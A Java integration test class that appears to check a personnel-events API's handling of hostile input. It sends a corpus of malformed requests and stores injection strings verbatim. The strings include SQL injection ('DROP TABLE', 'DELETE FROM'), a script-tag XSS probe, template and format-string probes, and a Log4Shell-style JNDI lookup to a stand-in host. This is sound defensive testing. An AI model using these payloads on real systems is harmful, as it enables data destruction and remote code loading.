package com.personnelevents.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.personnelevents.support.ApiContract;
import com.personnelevents.support.ApiIntegrationTest;
import com.personnelevents.support.ApiResponse;
import com.personnelevents.support.JsonBody;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import tools.jackson.databind.JsonNode;

/**
 * Every request of the {@link HostileInputCorpus} gets its 4xx in the documented envelope, never a
 * 5xx, gives away no internals, and changes nothing in the database. Injection strings that are valid
 * input are stored verbatim instead.
 */
class HostileInputIT extends ApiIntegrationTest {

    /** What a response body must never show a client. */
    private static final List<String> INTERNALS = List.of(
            "Exception",
            "\tat ",
            "at com.personnelevents",
            "at org.",
            "java.lang",
            "java.sql",
            "tools.jackson",
            "com.fasterxml",
            "org.springframework",
            "org.h2",
            "org.postgresql",
            "SQLState",
            "SQL statement");

    /** Ids of the fixtures the corpus names by placeholder; created once, kept for the whole class. */
    private static Map<String, String> fixtures;

    private static final HttpClient HTTP =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    private static String admin;

    private static String snapshotQuery;

    @BeforeEach
    void fixtures() {
        if (fixtures != null) {
            return;
        }
        admin = token("admin");
        Map<String, String> ids = new LinkedHashMap<>();
        ids.put("{identity}", givenIdentity("Hostile", "Fixture").toString());
        // created by another token than admin, which sends the corpus: the token that created an event may
        // not approve or reject it, and the corpus is about the bodies of those requests, not that duty
        ids.put("{event}", created(post("/api/personnel-events/onboard", token("events:write"), anOnboardRequest(30))));
        ids.put(
                "{application}",
                created(post(
                        "/api/applications",
                        admin,
                        JsonBody.json()
                                .with("name", HostileInputCorpus.APPLICATION)
                                .with("permissions", List.of(Map.of("name", HostileInputCorpus.PERMISSION))))));
        ids.put(
                "{model}",
                created(post(
                        "/api/access-models",
                        admin,
                        JsonBody.json()
                                .with("name", "Hostile fixture model")
                                .with("criteria", Map.of("department", List.of("Nobody")))
                                .with(
                                        "permissions",
                                        List.of(Map.of(
                                                "application",
                                                HostileInputCorpus.APPLICATION,
                                                "permission",
                                                HostileInputCorpus.PERMISSION))))));
        ids.put(
                "{token}",
                created(post(
                        "/api/tokens",
                        admin,
                        JsonBody.json()
                                .with("name", "Hostile fixture feed")
                                .with("scopes", List.of("events:approve")))));
        fixtures = ids;
    }

    static Stream<HostileRequest> corpus() {
        return HostileInputCorpus.all().stream();
    }

    @Test
    void the_corpus_has_at_least_200_cases_over_every_write_endpoint() {
        List<HostileRequest> all = HostileInputCorpus.all();

        assertThat(all).hasSizeGreaterThanOrEqualTo(200);
        assertThat(all).extracting(HostileRequest::name).doesNotHaveDuplicates();
        for (HostileInputCorpus.Endpoint endpoint : HostileInputCorpus.ENDPOINTS) {
            assertThat(all).anyMatch(c -> c.name().startsWith(endpoint.name() + ": "));
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void answers_the_documented_4xx_and_stores_nothing(HostileRequest hostile) throws Exception {
        Map<String, Long> before = storedRows();

        Answer answer = send(hostile);

        assertThat(answer.status())
                .as("status of %s; body %s", hostile, answer.text())
                .isEqualTo(hostile.status());
        JsonNode envelope = answer.body();
        assertThat(envelope.path("error").asString()).as(answer.text()).isEqualTo(hostile.error());
        assertThat(envelope.path("message").asString()).as(answer.text()).isNotBlank();
        if (hostile.message() != null) {
            assertThat(envelope.path("message").asString()).isEqualTo(hostile.message());
        }
        assertThat(envelope.path("correlationId").asString())
                .isNotBlank()
                .isEqualTo(answer.header(CorrelationId.HEADER));
        if (hostile.field() != null) {
            List<String> fields = new java.util.ArrayList<>();
            envelope.path("errors").forEach(e -> fields.add(e.path("field").asString()));
            assertThat(fields).as(answer.text()).contains(hostile.field());
        }
        assertThat(answer.text()).doesNotContain(INTERNALS);
        assertThat(storedRows()).as("rows per table").isEqualTo(before);
    }

    @Test
    void stores_injection_strings_verbatim_as_plain_text() {
        String first = "Robert'); DROP TABLE identity;--";
        String last = "<script>alert(1)</script>";
        String title = "${jndi:ldap://evil.example/a}";
        String department = "{{7*7}} %s %n";
        String comment = "' OR '1'='1\n\"; DELETE FROM personnel_event; --\t\u00e9\u4e2d\ud83d\ude00";

        ApiResponse created = post(
                "/api/personnel-events/onboard",
                admin,
                anOnboardRequest()
                        .with("identity.firstName", first)
                        .with("identity.lastName", last)
                        .with("identity.title", title)
                        .with("identity.department", department)
                        .with("comment", comment));

        assertThat(created.status()).as(created.body().toString()).isEqualTo(201);
        ApiResponse read = get(created.header(HttpHeaders.LOCATION), admin);
        assertThat(read.text("affectedIdentity.firstName")).isEqualTo(first);
        assertThat(read.text("affectedIdentity.lastName")).isEqualTo(last);
        assertThat(read.text("affectedIdentity.title")).isEqualTo(title);
        assertThat(read.text("affectedIdentity.department")).isEqualTo(department);
        assertThat(jdbc.sql("SELECT COUNT(*) FROM identity").query(Long.class).single())
                .isPositive();
    }

    @Test
    void finds_nothing_for_an_injection_string_used_as_a_search() {
        ApiResponse response = get("/api/identities?search=%27%20OR%20%271%27%3D%271", admin);

        assertThat(response.status()).isEqualTo(200);
        assertThat(response.at("items").size()).isZero();
    }

    @Test
    void matches_an_external_id_with_quotes_exactly() {
        String externalId = "x' OR '1'='1";
        ApiResponse imported = post(
                "/api/identities",
                admin,
                JsonBody.json()
                        .with(
                                "identities",
                                List.of(Map.of("externalId", externalId, "firstName", "Quote", "lastName", "Person"))));
        assertThat(imported.status()).as(imported.body().toString()).isEqualTo(200);

        ApiResponse again = post(
                "/api/identities",
                admin,
                JsonBody.json()
                        .with(
                                "identities",
                                List.of(Map.of("externalId", externalId, "firstName", "Quote", "lastName", "Person"))));

        assertThat(again.text("items.0.id")).isEqualTo(imported.text("items.0.id"));
        assertThat(again.text("items.0.result")).isEqualTo("Unchanged");
    }

    /**
     * A date-time names its day as written, in no zone (decisions.md, "Dates and time"), so a local time
     * that a daylight-saving change skips in Europe is no error: the day is the 29th of March.
     */
    @Test
    void takes_a_local_time_in_a_daylight_saving_gap_as_the_day_written() {
        ApiResponse created = post(
                "/api/personnel-events/onboard",
                admin,
                anOnboardRequest().with("effectiveDate", "2026-03-29T02:30:00"));

        assertThat(created.status()).as(created.body().toString()).isEqualTo(201);
        assertThat(created.text("neededOn")).isEqualTo("2026-03-29T00:00:00Z");
    }

    // --- sending and counting ---

    private record Answer(int status, java.net.http.HttpHeaders headers, String text, JsonNode body) {
        String header(String name) {
            return headers.firstValue(name).orElse(null);
        }
    }

    /** Sent with the JDK client, which passes bytes and headers (a bogus charset too) as they are. */
    private Answer send(HostileRequest hostile) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        URI.create("http://localhost:" + port + substitute(hostile.path())))
                .header("Authorization", "Bearer " + admin)
                .timeout(Duration.ofSeconds(30))
                .method(
                        hostile.method().name(),
                        hostile.body() == null
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofByteArray(
                                        substitute(hostile.body().get())));
        hostile.headers().forEach(request::header);
        HttpResponse<byte[]> response = ApiContract.assertConforms(
                baseUrl(), HTTP.send(request.build(), HttpResponse.BodyHandlers.ofByteArray()));
        String text = new String(response.body(), StandardCharsets.UTF_8);
        String type = response.headers().firstValue("Content-Type").orElse("none");
        assertThat(MediaType.parseMediaType(type).isCompatibleWith(MediaType.APPLICATION_JSON))
                .as("content type %s of the answer %s", type, text)
                .isTrue();
        return new Answer(response.statusCode(), response.headers(), text, json.readTree(response.body()));
    }

    private static String substitute(String text) {
        String result = text;
        for (Map.Entry<String, String> fixture : fixtures.entrySet()) {
            result = result.replace(fixture.getKey(), fixture.getValue());
        }
        return result;
    }

    /** Placeholders replaced byte-wise: ISO-8859-1 maps every byte to one char and back, invalid UTF-8 included. */
    private static byte[] substitute(byte[] body) {
        return substitute(new String(body, StandardCharsets.ISO_8859_1)).getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Rows per table, and the sum of the row versions where a table has them (an update changes it). */
    private Map<String, Long> storedRows() {
        if (snapshotQuery == null) {
            snapshotQuery = snapshotQuery();
        }
        Map<String, Long> rows = new LinkedHashMap<>();
        jdbc.sql(snapshotQuery)
                .query((rs, n) -> rows.put(rs.getString(1), rs.getLong(2)))
                .list();
        return rows;
    }

    /** One query over every table of the schema, so that a table added later is watched too. */
    private String snapshotQuery() {
        List<String> tables = jdbc.sql("""
                        SELECT LOWER(table_name) FROM information_schema.tables
                         WHERE LOWER(table_schema) = 'public' AND table_type = 'BASE TABLE'
                           AND LOWER(table_name) <> 'flyway_schema_history'
                         ORDER BY 1""").query(String.class).list();
        assertThat(tables).contains("personnel_event", "identity", "idempotency_key", "settings", "custom_field");
        List<String> versioned = jdbc.sql("""
                        SELECT LOWER(table_name) FROM information_schema.columns
                         WHERE LOWER(table_schema) = 'public' AND LOWER(column_name) = 'version'""").query(String.class).list();
        List<String> parts = new java.util.ArrayList<>();
        for (String table : tables) {
            parts.add("SELECT '" + table + "', COUNT(*) FROM " + table);
            if (versioned.contains(table)) {
                parts.add("SELECT '" + table + ".version', COALESCE(SUM(version), 0) FROM " + table);
            }
        }
        parts.add("SELECT 'custom_field.changed', COUNT(*) FROM custom_field WHERE enabled OR label IS NOT NULL");
        return String.join(" UNION ALL ", parts);
    }

    private static String created(ApiResponse response) {
        assertThat(response.status()).as(response.body().toString()).isEqualTo(201);
        return UUID.fromString(response.text("id")).toString();
    }
}
